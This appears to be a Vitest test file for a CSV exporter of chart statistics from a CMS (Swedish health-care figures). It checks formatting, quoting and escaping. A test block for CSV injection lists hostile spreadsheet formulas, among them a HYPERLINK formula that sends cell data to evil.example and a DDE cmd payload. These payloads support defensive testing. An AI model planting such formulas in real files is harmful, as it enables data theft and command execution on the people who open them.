import { describe, expect, test } from 'vitest'
import type { Chart } from '../../../model/sanity.types'
import { toChartData } from '../../../src/features/charts'
import { csvFileName, csvNumber, statisticCsv as csvOfData, type CsvMetadata } from '../../../src/features/data/csv'

/** The CSV of a chart from the CMS, read as the statistic's view reads it (toChartData). */
const statisticCsv = (chart: Chart, meta: CsvMetadata) => csvOfData(toChartData(chart, meta.title), meta)

const chart = {
  _type: 'chart',
  type: 'bar',
  unit: 'antal besök',
  categories: ['Läkare', 'Annan yrkeskategori'],
  series: [{ _key: 'a', _type: 'chartSeries', name: 'Besök', values: [424868, 612166.5] }],
} as Chart

const meta = {
  title: 'Besök i hälso- och sjukvården',
  period: '2018',
  source: { name: 'Region Kronoberg', url: 'https://www.regionkronoberg.se' },
  url: 'https://example.se/2018/halso-och-sjukvard',
  categoryHeading: 'Kategori',
}

describe('statisticCsv', () => {
  test('UTF-8 BOM, metadata as # lines, semicolons, decimal comma, unit in the header', () => {
    const csv = statisticCsv(chart, meta)!
    expect(csv.startsWith('\ufeff# Besök i hälso- och sjukvården\r\n')).toBe(true)
    expect(csv.slice(1).split('\r\n')).toEqual([
      '# Besök i hälso- och sjukvården',
      '# Period: 2018',
      '# Källa: Region Kronoberg (https://www.regionkronoberg.se)',
      '# Enhet: antal besök',
      '# Adress: https://example.se/2018/halso-och-sjukvard',
      'Kategori;Besök (antal besök)',
      'Läkare;424868',
      'Annan yrkeskategori;612166,5',
      '',
    ])
  })

  test('quotes cells that hold a separator, a quote or a #', () => {
    const csv = statisticCsv({ ...chart, categories: ['A;B', 'Sa "hej" #1'] }, meta)!
    expect(csv).toContain('"A;B";424868')
    expect(csv).toContain('"Sa ""hej"" #1";612166,5')
  })

  test('no CSV for a chart without data; numbers a chart cannot draw are still written, none lost', () => {
    expect(statisticCsv({ ...chart, type: 'none' }, meta)).toBeNull()
    expect(statisticCsv({ ...chart, categories: [], series: [] }, meta)).toBeNull()
    // More values than labels: the extra value gets a row without a label.
    expect(statisticCsv({ ...chart, categories: ['bara en'] }, meta)).toContain('bara en;424868\r\n;612166,5\r\n')
    // A ring of negative values, and a missing value (an empty cell).
    const donut = {
      ...chart,
      type: 'donut',
      series: [{ ...chart.series![0]!, values: [-3, null as unknown as number] }],
    } as Chart
    expect(statisticCsv(donut, meta)).toContain('Läkare;-3\r\nAnnan yrkeskategori;\r\n')
  })
})

/**
 * CSV injection (OWASP): CMS text that a spreadsheet would run as a formula. Each hostile text
 * is tried in every place CMS text goes: a label, a series name, the unit, and each comment line.
 */
describe('CMS text cannot become a formula in a spreadsheet', () => {
  const hostile = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '"=1+1',
    "'=1+1",
    ' " =1+1',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(A1)',
    'A;=1+1',
    'A;"=1+1',
    'A\r\n=1+1;x',
  ]

  /** Splits CSV text into rows of cells as a spreadsheet does (RFC 4180, ";" as separator). */
  function parse(csv: string): string[][] {
    const rows: string[][] = []
    let row: string[] = []
    let cell = ''
    let quoted = false
    for (let i = 0; i < csv.length; i += 1) {
      const char = csv[i]!
      if (quoted) {
        if (char === '"' && csv[i + 1] === '"') {
          cell += '"'
          i += 1
        } else if (char === '"') quoted = false
        else cell += char
      } else if (char === '"' && cell === '') quoted = true
      else if (char === ';') {
        row.push(cell)
        cell = ''
      } else if (char === '\r' && csv[i + 1] === '\n') {
        row.push(cell)
        rows.push(row)
        row = []
        cell = ''
        i += 1
      } else cell += char
    }
    expect(quoted, 'every quote is closed').toBe(false)
    expect(cell === '' && row.length === 0, 'the file ends with a line end').toBe(true)
    return rows
  }

  /** What a spreadsheet would run: a cell whose first character, past spaces, starts a formula. */
  const formula = (cell: string) =>
    /^[\s]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell)

  test.each(hostile)('%j', (text) => {
    const hostileChart = {
      ...chart,
      unit: text,
      categories: [text, 'Annan'],
      series: [{ ...chart.series![0]!, name: text, values: [-12.5, 3] }],
    } as Chart
    const csv = statisticCsv(hostileChart, {
      ...meta,
      title: text,
      period: text,
      source: { name: text, url: text },
      url: text,
      categoryHeading: text,
    })!
    const rows = parse(csv.slice(1))
    for (const cell of rows.flat()) expect(formula(cell), JSON.stringify(cell)).toBe(false)
    // Five comment lines (nothing broke out of them), a header, two rows of two cells.
    expect(rows.filter((cells) => cells[0]!.startsWith('#'))).toHaveLength(5)
    const data = rows.filter((cells) => !cells[0]!.startsWith('#'))
    expect(data.map((cells) => cells.length)).toEqual([2, 2, 2])
    // The text is all there, behind an apostrophe where it would have been a formula.
    expect(data[1]![0]!.replace(/^'/, '')).toBe(text.replace(/[\r\n]+/g, ' ').trim())
    expect(data[1]![1]).toBe('-12,5')
  })

  test('a comment line keeps its text on one line, whatever line breaks the CMS text holds', () => {
    const csv = statisticCsv(chart, { ...meta, title: 'Rad 1\nRad 2\r\nRad 3\u2028Rad 4\u0085Rad 5' })!
    expect(csv.slice(1).split('\r\n')[0]).toBe('# Rad 1 Rad 2 Rad 3 Rad 4 Rad 5')
    expect(csv.slice(1).split(/\r\n|\n|\r|\u2028|\u0085/)).toHaveLength(9)
  })

  test('ordinary text, and numbers written as text, are left as they are', () => {
    const csv = statisticCsv({ ...chart, categories: ['-12,5', 'Över 65 år'] }, { ...meta, title: 'Resultat 2018' })!
    expect(csv).toContain('\r\n-12,5;424868\r\n')
    expect(csv).toContain('\r\nÖver 65 år;612166,5\r\n')
    expect(csv).toContain('# Resultat 2018\r\n')
  })

  test('numbers the code writes are never escaped: negative and decimal ones stay numbers', () => {
    const numbers = { ...chart, series: [{ ...chart.series![0]!, values: [-12.5, -3] }] } as Chart
    const csv = statisticCsv(numbers, meta)!
    expect(csv).toContain('\r\nLäkare;-12,5\r\nAnnan yrkeskategori;-3\r\n')
    expect(csvNumber(-0.25)).toBe('-0,25')
  })
})

test('numbers keep full precision with a decimal comma and no grouping', () => {
  expect(csvNumber(1037034)).toBe('1037034')
  expect(csvNumber(-1.9)).toBe('-1,9')
  expect(csvNumber(undefined)).toBe('')
})

test('file names are named after the statistic and year', () => {
  expect(csvFileName('Besök i hälso- och sjukvården', 2018)).toBe('besok-i-halso-och-sjukvarden-2018.csv')
  expect(csvFileName('§§', 2019)).toBe('statistik-2019.csv')
})
